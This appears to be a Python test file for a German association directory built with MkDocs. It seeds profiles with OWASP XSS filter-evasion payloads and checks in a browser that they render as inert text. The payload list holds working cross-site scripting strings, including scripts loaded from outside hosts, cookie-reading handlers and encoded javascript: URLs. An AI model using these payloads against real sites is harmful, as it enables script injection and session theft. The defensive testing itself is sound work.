"""Untrusted profile text stays inert: the OWASP XSS filter-evasion payloads, rendered in Chromium.

Each payload becomes one profile: name, kurzname, beschreibung (also in Arabic and Turkish), angebote,
oeffnungszeiten, adresse, vereinsregister, barrierefrei, a person, and website and social links that pass
the schema. The site is built with MkDocs and every page that shows profile text is opened:
each profile, the directory, a listing, the brochure page and the search results. No dialog may open, no
request may leave 127.0.0.1, no handler attribute (on…) and no javascript:/vbscript:/data:text/html URL may
survive in the DOM, and no element a payload asks for (script, iframe, img, style, …) may exist in the content.
"""

from __future__ import annotations

import functools
import hashlib
import http.server
import threading
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import build, make_project, minimal_profile
from mso.text import markdown, plain

# From https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
OWASP = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    "&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;"
    "&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58"
    "&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</script><script>alert('XSS');</script>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0"
    "cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAi"
    "IHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxl"
    "cnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]
# The same ideas in the Markdown subset descriptions are written in.
MARKDOWN = [
    "[klick](javascript:alert('XSS'))", "[klick](JaVaScRiPt:alert(1))", "[klick](jav&#x09;ascript:alert(1))",
    "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[klick](vbscript:msgbox(1))",
    "![bild](javascript:alert(1))", "![bild](https://tracker.example/pixel.gif)", "<javascript:alert(1)>",
    "[a](https://x.example/\" onmouseover=\"alert(1))", "[a](<javascript:alert(1)>)", "`<script>alert(1)</script>`",
    "[a]: javascript:alert(1)\n\n[a]", "**<img src=x onerror=alert(1)>**", "* <svg onload=alert(1)>",
]
# Website values that pass the schema (http(s), no spaces, quotes or angle brackets) and try to break out.
WEBSITES = ["https://x.example/'onmouseover='alert(1)'", "https://x.example/?q=';alert(1)//",
            "https://x.example/#javascript:alert(1)", "https://x.example/&quot;onmouseover=alert(1)"]
PAYLOADS = OWASP + MARKDOWN
MARKER = "alert"  # every payload calls alert/msgbox; the text must be there, visibly and inertly


def one_line(text: str) -> str:
    return text.replace("\t", " ").replace("\n", " ")


def profiles() -> dict[str, dict]:
    result = {}
    for i, payload in enumerate(PAYLOADS):
        token = hashlib.sha256(str(i).encode()).hexdigest()[:8]  # names stay distinct after normalising
        german = f"{payload}\n\n{MARKDOWN[i % len(MARKDOWN)]}\n\nEnde {token}."
        multi_line = payload
        payload = one_line(payload)  # validation refuses tabs and line breaks in single-line fields
        result[f"xss-{i:03d}"] = minimal_profile(
            f"Verein {token} {payload}"[:150], kurzname=payload[:60], oeffnungszeiten=multi_line[:500],
            beschreibung=german if i % 2 else {"de": german, "ar": multi_line, "tr": MARKDOWN[i % len(MARKDOWN)]},
            angebote=[payload[:300], one_line(MARKDOWN[(i + 1) % len(MARKDOWN)])],
            kontakt={"email": f"info-{token}@example.org", "website": WEBSITES[i % len(WEBSITES)],
                     "social": [WEBSITES[(i + 1) % len(WEBSITES)]]},
            adresse={"strasse": payload[:100], "zusatz": payload[:100], "plz": "33602", "ort": payload[:60]},
            ansprechpersonen=[{"name": payload[:100], "funktion": payload[:100], "einwilligung": "2026-01-10"}],
            vereinsregister=payload[:100], barrierefrei=payload[:300],
        )
    return result


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args) -> None:
        pass


@pytest.fixture(scope="module")
def xss_url(tmp_path_factory):
    project = make_project(tmp_path_factory.mktemp("xss") / "project", profiles())
    result = build(project, project / "site")
    assert result.returncode == 0, result.stdout + result.stderr
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(_Quiet, directory=str(project / "site")))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()


# Run in the page: everything that would let script run, or that only a payload could have put there.
INSPECT = """() => {
  const bad = [];
  const urlAttrs = ["href", "src", "action", "formaction", "data", "background", "lowsrc", "dynsrc", "poster",
                    "xlink:href", "srcdoc"];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on")) bad.push(`${el.tagName} ${name}=${attr.value}`);
      const value = attr.value.replace(/[\\s\\x00-\\x1f]/g, "").toLowerCase();
      if (urlAttrs.includes(name) && /^(javascript|vbscript|data:text\\/html|livescript):?/.test(value))
        bad.push(`${el.tagName} ${name}=${attr.value}`);
    }
  }
  const content = document.querySelector(".md-content") || document.body;
  const forbidden = "iframe, frame, frameset, object, embed, applet, base, bgsound, meta, style, img, math, " +
                    "noscript, input[type=image i], input[src]";
  for (const el of content.querySelectorAll(forbidden)) bad.push(`<${el.tagName}> in the content`);
  for (const el of content.querySelectorAll("link")) {  // the brochure's own stylesheet is fine
    if (new URL(el.href).origin !== location.origin) bad.push("link to elsewhere: " + el.href);
  }
  for (const el of document.querySelectorAll("script")) {
    if (/^application\\/(ld\\+)?json$/i.test(el.type)) {  // data: it must parse, so nothing broke out of it
      try { JSON.parse(el.textContent); } catch (e) { bad.push("JSON in a script does not parse: " + e); }
    } else if (el.src) {
      if (new URL(el.src).origin !== location.origin) bad.push("script from elsewhere: " + el.src);
    } else if (/alert|msgbox|xss/i.test(el.textContent)) {
      bad.push("inline script with a payload: " + el.textContent.slice(0, 80));
    }
  }
  return {bad, text: content.innerText};
}"""


def visit(page, url: str) -> str:
    page.goto(url, wait_until="load")
    page.mouse.move(300, 300)  # pointer handlers would fire now, if any had survived
    page.mouse.move(600, 500)
    result = page.evaluate(INSPECT)
    assert result["bad"] == [], url
    return result["text"]


@pytest.fixture
def watched(page):
    """The `page` fixture, failing on any dialog (alert, confirm, prompt) and on any foreign request."""
    dialogs: list[str] = []

    def on_dialog(dialog):
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.dialogs = dialogs
    yield page
    assert dialogs == []
    assert page.foreign_requests == []


def test_every_profile_page_keeps_the_payloads_inert(watched, xss_url):
    for slug, data in profiles().items():
        text = " ".join(visit(watched, f"{xss_url}vereine/{slug}/").split())
        # the payload is on the page, as the text it is
        assert " ".join(data["oeffnungszeiten"].split()) in text, slug
        german = data["beschreibung"] if isinstance(data["beschreibung"], str) else data["beschreibung"]["de"]
        assert german.rsplit("Ende ", 1)[1] in text, slug
        assert "&lt;" not in watched.title() and "&lt;" not in text, "escaped twice"


@pytest.mark.parametrize("path", ["vereine/", "stadtbezirke/mitte/", "steckbriefe/"])
def test_pages_listing_every_profile_keep_the_payloads_inert(watched, xss_url, path):
    text = visit(watched, xss_url + path)
    assert text.count(MARKER) >= len(OWASP) // 2


def test_search_results_keep_the_payloads_inert(watched, xss_url):
    """The page text in Pagefind's index is raw text: the search box must show it as text, never as HTML."""
    watched.goto(xss_url, wait_until="load")
    search = watched.locator("[data-mso-suche-eingabe]")
    search.fill("alert")
    search.press("End")
    watched.locator(".md-search-result__item").first.wait_for()
    watched.mouse.move(640, 300)
    result = watched.evaluate(INSPECT.replace('document.querySelector(".md-content")',
                                              'document.querySelector(".md-search-result")'))
    assert result["bad"] == []
    assert MARKER in result["text"] and "<" in result["text"]
    assert "&lt;" not in result["text"], "escaped twice"


# --- the Markdown filter itself, with Hypothesis (no browser needed) --------------------------------------

ALLOWED_TAGS = {"p", "ul", "ol", "li", "em", "strong", "a", "br", "code"}
PIECES = st.sampled_from(PAYLOADS + [
    "<", ">", "&", "&#", "x;", "&lt;", "[", "]", "(", ")", "!", "*", "_", "`", "\n", "\n\n", " ", "- ", "1. ",
    "javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,", "https://x.example/", "mailto:a@b.example",
    "tel:+49521", "\t", "&#x09;", "&#106;", "%6A", "\\", '"', "'", "onerror=", "<a href=", "<img src=x ", "/>",
])


class _Inspect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if not (tag == "a" and name in ("href", "rel")):
                self.problems.append(f"<{tag} {name}>")
            elif name == "href" and urlsplit((value or "").strip()).scheme.lower() not in ("http", "https", "mailto",
                                                                                          "tel"):
                self.problems.append(f"href={value}")


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_markdown_of_any_text_is_inert(text):
    inspect = _Inspect()
    inspect.feed(str(markdown(text)))
    inspect.close()
    assert inspect.problems == []
    assert isinstance(plain(text), str)
